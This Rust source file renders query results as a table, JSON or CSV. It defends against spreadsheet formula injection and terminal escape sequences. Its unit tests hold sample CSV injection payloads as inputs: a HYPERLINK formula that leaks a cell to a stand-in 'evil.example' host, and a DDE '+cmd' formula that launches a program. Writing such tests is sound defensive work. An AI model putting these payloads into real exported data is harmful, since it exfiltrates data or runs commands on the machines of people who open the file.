//! Query results as a table for people, or JSON / CSV for programs.
//!
//! Text in them may have come from a gateway or a user, so it is made inert
//! for where it lands: a CSV cell that a spreadsheet would take for a formula
//! (starting `=`, `+`, `-`, `@`, tab or carriage return, OWASP's CSV injection
//! rule) is prefixed with `'` unless it is a plain number, and a table for the
//! terminal shows control characters as escapes instead of sending them.

use std::borrow::Cow;
use std::io::Write;
use std::sync::Arc;

use arrow::array::{Array, ArrayRef, AsArray, RecordBatch, StringArray};
use arrow::datatypes::{DataType, SchemaRef};
use arrow::json::writer::{JsonArray, WriterBuilder};

use crate::Result;

/// A CSV cell no spreadsheet evaluates: text starting with a formula
/// character gets a leading `'`; numbers such as `-12.50` stay numbers.
pub fn csv_cell(text: &str) -> Cow<'_, str> {
    let risky = text
        .chars()
        .next()
        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
    let number = !text.is_empty()
        && text.parse::<f64>().is_ok()
        && text
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, '-' | '+' | '.' | 'e' | 'E'));
    if risky && !number {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// Text for a terminal: control characters (escape sequences, carriage
/// returns, bells) shown as `\u{1b}` instead of acting on the terminal.
pub fn terminal_text(text: &str) -> Cow<'_, str> {
    if !text.chars().any(char::is_control) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if c.is_control() {
            out.push_str(&c.escape_unicode().to_string());
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// Text as each writer needs it changed (or borrowed as it is).
type TextMap<'f> = &'f dyn for<'a> Fn(&'a str) -> Cow<'a, str>;

/// `batches` with every occurrence of `prefix` in their text replaced by
/// `with` (absolute lake paths in a query plan, shown relative).
pub fn without_prefix(
    batches: &[RecordBatch],
    prefix: &str,
    with: &str,
) -> Result<Vec<RecordBatch>> {
    let replace = text_map(|text| {
        if text.contains(prefix) {
            Cow::Owned(text.replace(prefix, with))
        } else {
            Cow::Borrowed(text)
        }
    });
    with_safe_text(batches, &replace)
}

/// Gives a closure the signature a [`TextMap`] needs (its output borrows its input).
fn text_map<F: for<'a> Fn(&'a str) -> Cow<'a, str>>(f: F) -> F {
    f
}

/// `batches` with every text value passed through `make_safe`.
fn with_safe_text(batches: &[RecordBatch], make_safe: TextMap<'_>) -> Result<Vec<RecordBatch>> {
    batches
        .iter()
        .map(|batch| {
            let columns: Vec<ArrayRef> = batch
                .columns()
                .iter()
                .map(|column| safe_column(column, make_safe))
                .collect::<Result<_>>()?;
            // Other text encodings come back as plain Utf8: the schema follows.
            let fields: Vec<arrow::datatypes::Field> = batch
                .schema()
                .fields()
                .iter()
                .zip(&columns)
                .map(|(f, c)| f.as_ref().clone().with_data_type(c.data_type().clone()))
                .collect();
            let schema = Arc::new(arrow::datatypes::Schema::new(fields));
            Ok(RecordBatch::try_new(schema, columns)?)
        })
        .collect()
}

fn safe_column(column: &ArrayRef, make_safe: TextMap<'_>) -> Result<ArrayRef> {
    let cast;
    let strings = match column.data_type() {
        DataType::Utf8 => column.as_string::<i32>(),
        DataType::LargeUtf8 | DataType::Utf8View => {
            cast = arrow::compute::cast(column, &DataType::Utf8)?;
            cast.as_string::<i32>()
        }
        DataType::Dictionary(_, value) if value.as_ref() == &DataType::Utf8 => {
            cast = arrow::compute::cast(column, &DataType::Utf8)?;
            cast.as_string::<i32>()
        }
        _ => return Ok(column.clone()),
    };
    let changes = strings
        .iter()
        .flatten()
        .any(|v| matches!(make_safe(v), Cow::Owned(_)));
    if !changes {
        return Ok(Arc::new(strings.clone()) as ArrayRef);
    }
    let safe: StringArray = strings.iter().map(|v| v.map(make_safe)).collect();
    Ok(Arc::new(safe) as ArrayRef)
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum OutputFormat {
    #[default]
    Table,
    Json,
    Csv,
}

impl std::str::FromStr for OutputFormat {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        match s {
            "table" => Ok(OutputFormat::Table),
            "json" => Ok(OutputFormat::Json),
            "csv" => Ok(OutputFormat::Csv),
            other => Err(format!("unknown format {other:?} (table, json or csv)")),
        }
    }
}

/// Writes `batches` in `format`. JSON is one array of objects with explicit nulls;
/// an empty result is still a table header, a CSV header, or `[]`.
pub fn write_batches(
    format: OutputFormat,
    schema: &SchemaRef,
    batches: &[RecordBatch],
    out: &mut dyn Write,
) -> Result<()> {
    let empty = [RecordBatch::new_empty(schema.clone())];
    let batches = if batches.is_empty() {
        &empty[..]
    } else {
        batches
    };
    match format {
        OutputFormat::Table => {
            let safe = with_safe_text(batches, &terminal_text)?;
            let table = arrow::util::pretty::pretty_format_batches(&safe)?;
            writeln!(out, "{table}").map_err(arrow::error::ArrowError::from)?;
        }
        OutputFormat::Csv => {
            let mut writer = arrow::csv::WriterBuilder::new()
                .with_header(true)
                .build(out);
            for batch in with_safe_text(batches, &csv_cell)? {
                writer.write(&batch)?;
            }
        }
        OutputFormat::Json => {
            if batches.iter().all(|b| b.num_rows() == 0) {
                writeln!(out, "[]").map_err(arrow::error::ArrowError::from)?;
                return Ok(());
            }
            let mut writer = WriterBuilder::new()
                .with_explicit_nulls(true)
                .build::<_, JsonArray>(&mut *out);
            for batch in batches {
                writer.write(batch)?;
            }
            writer.finish()?;
            drop(writer);
            writeln!(out).map_err(arrow::error::ArrowError::from)?;
        }
    }
    Ok(())
}

/// `batches` as JSON objects, one per row, with explicit nulls (what
/// `--format json` prints), for answers that embed rows in a larger document.
pub fn json_rows(schema: &SchemaRef, batches: &[RecordBatch]) -> Result<Vec<serde_json::Value>> {
    let mut text = Vec::new();
    write_batches(OutputFormat::Json, schema, batches, &mut text)?;
    match serde_json::from_slice(&text) {
        Ok(serde_json::Value::Array(rows)) => Ok(rows),
        Ok(_) => Ok(Vec::new()),
        Err(e) => Err(arrow::error::ArrowError::JsonError(e.to_string()).into()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(input: &str, expect: &str) {
        assert_eq!(csv_cell(input), expect, "{input:?}");
    }

    #[test]
    fn formula_cells_are_neutralised_and_numbers_kept() {
        check(
            r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
            r#"'=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
        );
        check("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0");
        check("@SUM(1+1)", "'@SUM(1+1)");
        check("-2+3", "'-2+3");
        check("\t=1", "'\t=1");
        check("\r=1", "'\r=1");
        check("-12.50", "-12.50");
        check("+1e3", "+1e3");
        check("sub-a", "sub-a");
        check("", "");
    }

    #[test]
    fn csv_and_tables_carry_no_live_text() {
        let schema = Arc::new(arrow::datatypes::Schema::new(vec![
            arrow::datatypes::Field::new("name", DataType::Utf8, true),
            arrow::datatypes::Field::new("n", DataType::Int64, false),
        ]));
        let batch = RecordBatch::try_new(
            schema.clone(),
            vec![
                Arc::new(StringArray::from(vec![
                    Some("=1+1"),
                    Some("\u{1b}[31mred"),
                    None,
                ])),
                Arc::new(arrow::array::Int64Array::from(vec![-1, 2, 3])),
            ],
        )
        .unwrap();
        let mut csv = Vec::new();
        write_batches(
            OutputFormat::Csv,
            &schema,
            std::slice::from_ref(&batch),
            &mut csv,
        )
        .unwrap();
        let csv = String::from_utf8(csv).unwrap();
        assert!(csv.contains("'=1+1,-1"), "{csv}");
        let mut table = Vec::new();
        write_batches(OutputFormat::Table, &schema, &[batch], &mut table).unwrap();
        let table = String::from_utf8(table).unwrap();
        assert!(
            !table.contains('\u{1b}') && table.contains("\\u{1b}[31mred"),
            "{table}"
        );
    }
}
